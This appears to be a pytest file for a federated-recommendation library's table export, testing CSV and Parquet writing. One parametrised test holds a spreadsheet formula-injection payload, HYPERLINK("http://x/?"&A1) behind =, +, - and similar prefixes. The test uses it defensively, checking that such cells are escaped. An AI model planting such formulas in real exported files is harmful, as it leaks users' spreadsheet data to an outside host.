"""Records and summaries as tables in files."""

import csv
import importlib
import math
import sys
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jaxfr.errors import InvalidInputError
from jaxfr.evaluation.names import metric_names
from jaxfr.records.export import (
    curve_rows,
    flatten,
    summary_rows,
    worst_case_rows,
    write_rows,
)
from jaxfr.records.summary import Cell, worst_case

parquet: Any = importlib.import_module("pyarrow.parquet")

# No row of text may look like a number, or be empty: CSV could not tell them apart.
TEXTS = st.sampled_from(
    ["mean", "num_users=40,num_items=300", 'a "word"', "two\nlines"]
)
COLUMNS = {
    "attack": TEXTS,
    "clip_norm": st.none() | st.floats(allow_nan=False, allow_infinity=False),
    "seed": st.integers(0, 2**63 - 1),
    "num_ranked": st.integers(0, 2**53) | st.floats(0, 1e6),
    "init_from": st.none() | TEXTS,
    "trim_share": st.none(),
}
ROWS = st.lists(st.fixed_dictionaries({}, optional=COLUMNS), min_size=1, max_size=6)
# num_ranked is a whole number in sampled ranking and an average in full.
NUMBERS = {"clip_norm": float, "seed": int, "num_ranked": float}


def record(run: str, seed: int, rounds: tuple[int, ...] = ()) -> dict:
    curve = [
        {"round": finished} | dict.fromkeys(metric_names(), finished / 10)
        for finished in rounds
    ]
    return {
        "run": run,
        "attack": "none",
        "clip_norm": None,
        "seed": seed,
        "hr@10": 0.5,
        "curve": curve,
        "versions": {"python": "3.11", "jax": "0.10"},
        "seconds": {"compile": 3.5, "train": 0.25},
    }


def read_csv(path) -> list[dict[str, str]]:
    with path.open(newline="") as file:
        return list(csv.DictReader(file))


def read_parquet(path) -> list[dict[str, Any]]:
    return parquet.read_table(path).to_pylist()


def number(column: str, text: str) -> Any:
    return NUMBERS.get(column, str)(text)


def test_a_run_becomes_one_flat_row():
    assert flatten(record("a", seed=3, rounds=(0, 2))) == {
        "run": "a",
        "attack": "none",
        "clip_norm": None,
        "seed": 3,
        "hr@10": 0.5,
        "version_python": "3.11",
        "version_jax": "0.10",
        "seconds_compile": 3.5,
        "seconds_train": 0.25,
    }


def test_curves_have_a_row_for_each_run_and_evaluation():
    records = [record("a", 3, rounds=(0, 2)), record("b", 4, rounds=(0,))]
    rows = curve_rows(records, ["seed", "attack", "clip_norm"])
    assert [(row["run"], row["seed"], row["round"], row["hr@10"]) for row in rows] == [
        ("a", 3, 0, 0.0),
        ("a", 3, 2, 0.2),
        ("b", 4, 0, 0.0),
    ]
    settings = ["run", "attack", "clip_norm", "seed"]
    assert all(list(row) == [*settings, "round", *metric_names()] for row in rows)


def test_what_is_not_known_is_null():
    cells = [
        Cell(("mean",), 0, math.nan, math.nan, math.nan),
        Cell(("median",), 1, 0.5, math.nan, math.nan),
        Cell(("krum",), 2, 0.5, 1, 2, diverged=1, chance=0.1, most_popular=0.4),
    ]
    names = ("mean", "deviation", "low", "high", "chance", "most_popular")
    unknown = dict.fromkeys(names) | {"metric": "hr@10", "diverged": 0}
    assert summary_rows({"hr@10": cells}, ["aggregator"]) == [
        unknown | {"aggregator": "mean", "runs": 0},
        unknown | {"aggregator": "median", "runs": 1, "mean": 0.5},
        {"aggregator": "krum", "metric": "hr@10", "runs": 2, "diverged": 1}
        | {"mean": 0.5, "deviation": 1, "low": -1.5, "high": 2.5}
        | {"chance": 0.1, "most_popular": 0.4},
    ]


def test_a_worst_case_stands_beside_its_clean_mean():
    group_by = ["attack", "aggregator"]
    cells = [
        Cell(("none", "mean"), 2, 0.5, 0.1, 0.1, diverged=1),
        Cell(("spattack_o_d", "mean"), 2, 0.25, 0.1, 0.125),
        Cell(("spattack_o_d", "krum"), 2, 0.25, 0.1, 0.125),
    ]
    mean, krum = worst_case_rows({"hr@10": worst_case(cells, group_by)}, group_by)
    assert mean == {
        "aggregator": "mean",
        "metric": "hr@10",
        "clean_mean": 0.5,
        "worst_attack": "spattack_o_d",
        "attacks": 1,
        "runs": 2,
        "diverged": 0,
        "mean": 0.25,
        "deviation": 0.1,
        "low": 0.125,
        "high": 0.375,
        "chance": None,
        "most_popular": None,
        "change_percent": -50.0,
        "clean_diverged": 1,
    }
    assert (krum["aggregator"], krum["clean_mean"]) == ("krum", None)
    assert krum["change_percent"] is None


@given(rows=ROWS)
def test_csv_and_parquet_read_back_as_what_was_written(tmp_path_factory, rows):
    folder = tmp_path_factory.mktemp("tables")
    write_rows(rows, folder / "rows.csv")
    write_rows(rows, folder / "rows.parquet")
    names = list(dict.fromkeys(name for row in rows for name in row))
    if not names:
        return
    expected = [{name: row.get(name) for name in names} for row in rows]
    assert read_parquet(folder / "rows.parquet") == expected
    read = [
        {name: None if text == "" else number(name, text) for name, text in row.items()}
        for row in read_csv(folder / "rows.csv")
    ]
    assert read == expected


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_text_of_a_csv_is_a_formula(tmp_path, first):
    text = f'{first}HYPERLINK("http://x/?"&A1)'
    write_rows([{"dataset": text, first: 1}], tmp_path / "rows.csv")
    (row,) = read_csv(tmp_path / "rows.csv")
    assert row == {"dataset": f"'{text}", f"'{first}" if first != "-" else "-": "1"}


@pytest.mark.parametrize("name", ["rows.csv", "rows.parquet"])
def test_halves_of_characters_are_written_out(tmp_path, name):
    write_rows([{"a\udc80": "log\udcff.csv"}], tmp_path / name)
    (row,) = (read_csv if name.endswith("csv") else read_parquet)(tmp_path / name)
    assert row == {r"a\udc80": r"log\udcff.csv"}


@pytest.mark.parametrize(
    "number", [-0.5, -3, "-0.1234", "+3", "-12 %", "-1,234", "-1e-05", "-", "−3", "a=b"]
)
def test_numbers_and_other_texts_stay_as_they_are_in_csv(tmp_path, number):
    write_rows([{"column": number}], tmp_path / "rows.csv")
    assert read_csv(tmp_path / "rows.csv") == [{"column": str(number)}]


@pytest.mark.parametrize("text", ["-1+1", "+1 (-50 %)", "-2 ± 1", "-x", "--", "=1"])
def test_a_text_that_only_begins_as_a_number_does_not(tmp_path, text):
    write_rows([{"column": text}], tmp_path / "rows.csv")
    assert read_csv(tmp_path / "rows.csv") == [{"column": f"'{text}"}]


@pytest.mark.parametrize(
    ("column", "kind", "read"),
    [
        ([1, None, 2], "int64", [1, None, 2]),
        ([1, 0.5, None], "double", [1.0, 0.5, None]),
        ([2**60 + 1, 0.5], "double", [float(2**60 + 1), 0.5]),
        ([None, "007"], "string", [None, "007"]),
        ([1, "none", None], "string", ["1", "none", None]),
        ([True, None], "bool", [True, None]),
        ([None, None], "null", [None, None]),
    ],
)
def test_a_parquet_column_has_one_type(tmp_path, column, kind, read):
    write_rows([{"column": value} for value in column], tmp_path / "rows.parquet")
    table = parquet.read_table(tmp_path / "rows.parquet")
    assert str(table.schema.field("column").type) == kind
    assert table.column("column").to_pylist() == read


@pytest.mark.parametrize("name", ["rows.json", "rows", "rows.csv.gz"])
def test_other_kinds_of_files_are_refused(tmp_path, name):
    with pytest.raises(InvalidInputError, match=r"must end in \.csv or \.parquet"):
        write_rows([{"a": 1}], tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_without_pyarrow_parquet_says_what_to_install(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    with pytest.raises(InvalidInputError, match=r"jaxfr\[parquet\]"):
        write_rows([{"a": 1}], tmp_path / "rows.parquet")
    write_rows([{"a": 1}], tmp_path / "rows.csv")


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_a_file_that_cannot_be_written_is_reported(tmp_path, ending):
    with pytest.raises(InvalidInputError, match="cannot write"):
        write_rows([{"a": 1}], tmp_path / "missing" / f"rows.{ending}")
